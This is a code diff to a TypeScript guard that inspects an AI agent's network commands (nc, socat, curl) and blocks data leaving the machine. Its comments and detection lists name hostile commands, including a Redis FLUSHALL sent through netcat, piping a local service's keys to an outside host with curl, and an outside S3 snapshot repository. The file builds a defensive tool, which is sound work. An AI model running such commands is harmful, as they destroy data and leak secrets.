@@ -1,7 +1,9 @@
+import { type CatalogueContext, judgeArgv } from '../catalogue/index.ts';
 import type { Finding } from '../codes.ts';
-import { describeKinds, findSensitive, sensitiveFileKind } from './egress/content.ts';
+import { describeKinds, findSensitive, type SensitiveFinding, sensitiveFileKind } from './egress/content.ts';
+import { isLoopbackHost, type LocalService, localService } from './egress/local-services.ts';
 import { analyzeHost, analyzeUrl, contentFindings, type EgressSettings, isTrustedHost } from './egress.ts';
-import { classifyPath, normalizePath, type PathContext } from './paths.ts';
+import { classifyPath, describePathClass, normalizePath, type PathContext } from './paths.ts';
 
 /** One resolved word of a network tool's command line. */
 export interface ToolWord {
@@ -27,6 +29,8 @@ export interface ToolInput {
 export interface NetworkContext {
   egress: EgressSettings;
   paths: PathContext;
+  /** Judges what a raw socket sends to a local data store (`echo FLUSHALL | nc localhost 6379`). */
+  catalogue?: CatalogueContext;
 }
 
 /** Programs whose arguments name a network destination. */
@@ -91,6 +95,8 @@ interface Plan {
   dynamicData: ToolWord[];
   readsStdin: boolean;
   sendsData: boolean;
+  /** The port a raw socket tool connects to (`nc localhost 6379`), when named. */
+  port?: number;
 }
 
 function emptyPlan(): Plan {
@@ -417,8 +423,13 @@ function planSocket(name: string, args: readonly ToolWord[]): Plan {
   const plan = emptyPlan();
   if (name === 'socat') {
     for (const w of args) {
-      const addr = /^(?:tcp|tcp4|tcp6|udp|udp4|udp6|openssl|ssl)(?:-connect)?:([^:,]+)/i.exec(w.text);
-      if (addr) plan.hosts.push({ ...w, text: addr[1]! });
+      const addr = /^(?:tcp|tcp4|tcp6|udp|udp4|udp6|openssl|ssl)(?:-connect)?:([^:,]+)(?::(\d+))?/i.exec(
+        w.text,
+      );
+      if (addr) {
+        plan.hosts.push({ ...w, text: addr[1]! });
+        if (addr[2] !== undefined) plan.port ??= Number(addr[2]);
+      }
       const file = /^(?:file|open|gopen|create):([^,]+)/i.exec(w.text);
       if (file) {
         plan.files.push(file[1]!);
@@ -443,12 +454,18 @@ function planSocket(name: string, args: readonly ToolWord[]): Plan {
     if (w.text.startsWith('-')) {
       if (name === 'openssl' && (w.text === '-connect' || w.text === '-servername')) {
         const v = args[i + 1];
+        const port = v ? /:(\d+)$/.exec(v.text) : null;
         if (v) plan.hosts.push({ ...v, text: v.text.replace(/:\d+$/, '') });
+        if (port) plan.port ??= Number(port[1]);
         i++;
       } else if (valued.test(w.text)) i++;
       continue;
     }
-    if (/^\d+$/.test(w.text) || name === 'openssl') continue;
+    if (/^\d+$/.test(w.text)) {
+      if (name !== 'openssl') plan.port ??= Number(w.text);
+      continue;
+    }
+    if (name === 'openssl') continue;
     plan.hosts.push(w);
   }
   plan.readsStdin = true;
@@ -526,11 +543,11 @@ function block(message: string, location: string): Finding {
 
 function fileFinding(name: string, file: string, ctx: NetworkContext): Finding | undefined {
   const normalized = normalizePath(file, ctx.paths);
-  const cls = classifyPath(normalized);
+  const cls = classifyPath(normalized, ctx.paths);
   if (cls !== null) {
     return {
       code: 'FILESYSTEM_DENIED',
-      message: `${name} sends a ${cls === 'secret' ? 'credential file' : 'protected system path'}`,
+      message: `${name} sends ${describePathClass(cls)}`,
       location: `path ${normalized.length > 120 ? `${normalized.slice(0, 117)}...` : normalized}`,
     };
   }
@@ -549,12 +566,26 @@ const DB_DUMPERS =
 const FILE_READERS =
   /^(?:cat|tac|head|tail|less|more|base64|base32|basenc|xxd|od|hexdump|gzip|gunzip|bzip2|xz|zstd|tar|zip|7z|7za|gpg|openssl|cp|dd|strings|sed|awk|jq|yq|sort|uniq|cut|tr|column|nl|iconv)$/;
 
-/** What a command piped into the tool reads out: an environment, a database, a secret file. */
+/** Clients that fetch a URL and print what they got. */
+const WEB_CLIENTS = new Set(['curl', 'wget', 'http', 'https', 'xh']);
+
+/**
+ * What a command piped into the tool reads out: an environment, a database, a secret file, or
+ * what a local service answered (`curl localhost:8080/admin/keys | curl -d @- elsewhere`) when
+ * the data goes beyond loopback.
+ */
 function producerKind(
   producer: { name: string; args: readonly string[] },
   ctx: NetworkContext,
+  leavesLoopback = true,
 ): string | undefined {
   const { name, args } = producer;
+  if (leavesLoopback && WEB_CLIENTS.has(name)) {
+    const local = args.find((a) =>
+      isLoopbackHost(urlHost(/^[a-z][a-z0-9+.-]*:\/\//i.test(a) ? a : `http://${a}`) ?? ''),
+    );
+    if (local !== undefined) return `what a local service answered (${local.slice(0, 60)})`;
+  }
   if (
     ENV_DUMPERS.test(name) &&
     (name !== 'export' || args.includes('-p')) &&
@@ -584,12 +615,101 @@ function producerKind(
   if (FILE_READERS.test(name)) {
     for (const arg of args) {
       if (arg.startsWith('-') || arg === '') continue;
-      if (classifyPath(normalizePath(arg, ctx.paths)) !== null || sensitiveFileKind(arg) !== undefined) {
+      const normalized = normalizePath(arg, ctx.paths);
+      if (classifyPath(normalized, ctx.paths) !== null || sensitiveFileKind(arg) !== undefined) {
         return `${arg.slice(arg.lastIndexOf('/') + 1).slice(0, 60)}, a file that holds secrets`;
       }
     }
   }
   return undefined;
+}
+
+/** Tools that open a raw connection and send what their input holds. */
+const RAW_SOCKETS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet']);
+
+const WEB_PORTS: Record<string, number> = { 'http:': 80, 'https:': 443 };
+
+/** A web URL on loopback as the agent's own service or not; undefined for any other URL. */
+function webLocalService(text: string, origins: readonly string[] | undefined): LocalService | undefined {
+  // As written: the URL parser reads `2130706433` as 127.0.0.1, a spelling no dev server has.
+  if (!isLoopbackHost(urlHost(text) ?? '')) return undefined;
+  const url = parseHttpUrl(text);
+  const defaultPort = url === undefined ? undefined : WEB_PORTS[url.protocol];
+  if (url === undefined || defaultPort === undefined) return undefined;
+  return localService(url.hostname, url.port === '' ? defaultPort : Number(url.port), {
+    path: url.pathname,
+    scheme: url.protocol.slice(0, -1),
+    ...(origins ? { origins } : {}),
+  });
+}
+
+function parseHttpUrl(text: string): URL | undefined {
+  try {
+    return new URL(text);
+  } catch {
+    return undefined;
+  }
+}
+
+/**
+ * What has no business reaching even the agent's own service: private keys, tokens a known
+ * issuer made (`ghp_…`, `AKIA…`) and `.env` dumps. Test passwords and sample personal data sent to
+ * a dev server are its ordinary input.
+ */
+function leavingSecrets(found: readonly SensitiveFinding[]): SensitiveFinding[] {
+  return found.filter(
+    (f) =>
+      f.kind === 'private key' ||
+      f.kind === '.env-style dump' ||
+      (f.ruleId !== undefined && f.ruleId !== 'generic-api-key' && !f.ruleId.startsWith('jwt')),
+  );
+}
+
+/**
+ * A search engine told to snapshot into a store outside the machine (`PUT _snapshot/x` with
+ * `"type": "s3"`): the local service then copies the cluster's data out.
+ */
+function outsideSnapshotRepository(url: URL, body: string): string | undefined {
+  if (!/\/_snapshot\/[^/]+\/?$/.test(url.pathname)) return undefined;
+  const type = /"type"\s*:\s*"(s3|gcs|azure|hdfs|url)"/i.exec(body);
+  return type
+    ? `registers an outside snapshot repository (${type[1]!.toLowerCase()}): the search engine would copy its data out of the machine`
+    : undefined;
+}
+
+/** Lines of a raw socket's input judged as commands, at most. */
+const MAX_SOCKET_LINES = 64;
+
+/**
+ * What a raw socket sends to a local service, judged as the client of that service would be:
+ * an HTTP request line as curl's request, any other line as a Redis command
+ * (`printf 'FLUSHALL\r\n' | nc localhost 6379` is `redis-cli FLUSHALL`).
+ */
+function dataStoreCommands(
+  name: string,
+  literal: string,
+  host: string,
+  port: number | undefined,
+  ctx: NetworkContext,
+): Finding[] {
+  if (ctx.catalogue === undefined) return [];
+  const findings: Finding[] = [];
+  const authority = `${host.includes(':') && !host.startsWith('[') ? `[${host}]` : host}${port === undefined ? '' : `:${port}`}`;
+  for (const line of literal.split(/\r?\n/).slice(0, MAX_SOCKET_LINES)) {
+    const words = line
+      .trim()
+      .split(/\s+/)
+      .filter((w) => w !== '');
+    if (words.length === 0) continue;
+    const request =
+      /^([A-Z]+)$/.test(words[0]!) && words[1]?.startsWith('/') && /^HTTP\//.test(words[2] ?? '');
+    const argv = request
+      ? ['curl', '-X', words[0]!, `http://${authority}${words[1]}`]
+      : ['redis-cli', '-h', host, ...(port === undefined ? [] : ['-p', String(port)]), ...words];
+    for (const f of judgeArgv(argv, ctx.catalogue))
+      findings.push({ ...f, message: `${f.message} (sent by ${name} to ${authority})` });
+  }
+  return findings;
 }
 
 /**
@@ -610,6 +730,18 @@ export function judgeNetworkCommand(
   const destinations: string[] = [];
   let unknownDestination = plan.urls.length === 0 && plan.hosts.length === 0;
 
+  // Loopback destinations that are the agent's own services: reached, and still judged by what is sent.
+  const local: string[] = [];
+  const localUrls: string[] = [];
+  const origins = ctx.egress.local_origins;
+  const judgeLocal = (host: string, service: LocalService, url: string): void => {
+    if (service.own) {
+      destinations.push(host);
+      local.push(host);
+      localUrls.push(url);
+    } else findings.push(block(`destination is not allowed: ${service.reason}`, `host ${host.slice(0, 80)}`));
+  };
+
   for (const word of plan.urls) {
     const host = urlHost(word.text) ?? '';
     if (DNS_TOOLS.has(name) && builtName(word, host)) {
@@ -619,6 +751,12 @@ export function judgeNetworkCommand(
     }
     if (word.dynamic && host === '') {
       unknownDestination = true;
+      continue;
+    }
+    const service = webLocalService(word.text, origins);
+    if (service !== undefined) {
+      judgeLocal(host, service, word.text);
+      if (carriesSubstitution(word)) plan.dynamicData.push(word);
       continue;
     }
     findings.push(...analyzeUrl(word.text, ctx.egress, { sendsData: sendsData || word.dynamic }));
@@ -635,15 +773,33 @@ export function judgeNetworkCommand(
       continue;
     }
     if (host === '' || !(host.includes('.') || host.includes(':') || host === 'localhost')) continue;
+    // A web client takes a bare `host:port/path` as http://; a raw socket names its port apart.
+    const asUrl = `http://${word.text.replace(/^[^@\s/]+@/, '')}`;
+    const service = WEB_CLIENTS.has(name)
+      ? webLocalService(asUrl, origins)
+      : RAW_SOCKETS.has(name)
+        ? localService(host, plan.port, { origins })
+        : undefined;
+    if (service !== undefined) {
+      judgeLocal(host, service, asUrl);
+      continue;
+    }
     findings.push(...analyzeHost(host, ctx.egress));
     destinations.push(host);
+  }
+  if (local.length > 0 && findings.length === 0 && usesStdin && stdin.literal !== undefined) {
+    findings.push(...dataStoreCommands(name, stdin.literal, local[0]!, plan.port, ctx));
   }
   if (findings.length > 0) return findings;
 
   const untrusted =
     unknownDestination || destinations.some((h) => !isTrustedHost(h.replace(/^\[|\]$/g, ''), ctx.egress));
   if (!untrusted) return findings;
+  const leavesLoopback = unknownDestination || local.length < destinations.length;
   const where = destinations[0] ?? 'an unknown destination';
+  // To the agent's own services data stays on the machine: only what has no business there counts.
+  const sensitive = (text: string) =>
+    leavesLoopback ? findSensitive(text) : leavingSecrets(findSensitive(text));
 
   for (const file of plan.files) {
     const finding = fileFinding(name, file, ctx);
@@ -655,14 +811,14 @@ export function judgeNetworkCommand(
       if (finding) findings.push(finding);
     }
     for (const producer of stdin.from ?? []) {
-      const kind = producerKind(producer, ctx);
+      const kind = producerKind(producer, ctx, leavesLoopback);
       if (kind !== undefined) {
         findings.push(block(`${name} sends ${kind}, piped in from ${producer.name}`, `command "${name}"`));
         break;
       }
     }
     if (stdin.literal !== undefined && name !== 'sftp') {
-      const found = findSensitive(stdin.literal);
+      const found = sensitive(stdin.literal);
       if (found.length > 0)
         findings.push(block(`${name} sends ${describeKinds(found)} read on its input`, `command "${name}"`));
     }
@@ -678,7 +834,7 @@ export function judgeNetworkCommand(
       }
     }
     for (const producer of found ? [] : (word.from ?? [])) {
-      const kind = producerKind(producer, ctx);
+      const kind = producerKind(producer, ctx, leavesLoopback);
       if (kind !== undefined) {
         findings.push(block(`${name} sends ${kind}, from a command substitution`, `command "${name}"`));
         break;
@@ -709,6 +865,18 @@ export function judgeNetworkCommand(
     }
   }
   const body = plan.literals.join('\n');
+  if (!leavesLoopback) {
+    // A credential header is presented to the agent's own service: that is what it is for.
+    const target = url ?? parseHttpUrl(localUrls[0] ?? '');
+    const found = sensitive(`${target?.pathname ?? ''}\n${target?.search ?? ''}\n${body}`);
+    if (found.length > 0)
+      findings.push(
+        block(`${name} sends ${describeKinds(found)} to a local service (${where})`, `command "${name}"`),
+      );
+    const repository = target ? outsideSnapshotRepository(target, body) : undefined;
+    if (repository !== undefined) findings.push(block(`${name}: ${repository}`, `command "${name}"`));
+    return findings;
+  }
   const host = url?.hostname ?? where;
   for (const f of contentFindings(host.toLowerCase(), { url, headers, body })) {
     findings.push({ ...f, message: `${name}: ${f.message}`, location: `command "${name}"` });
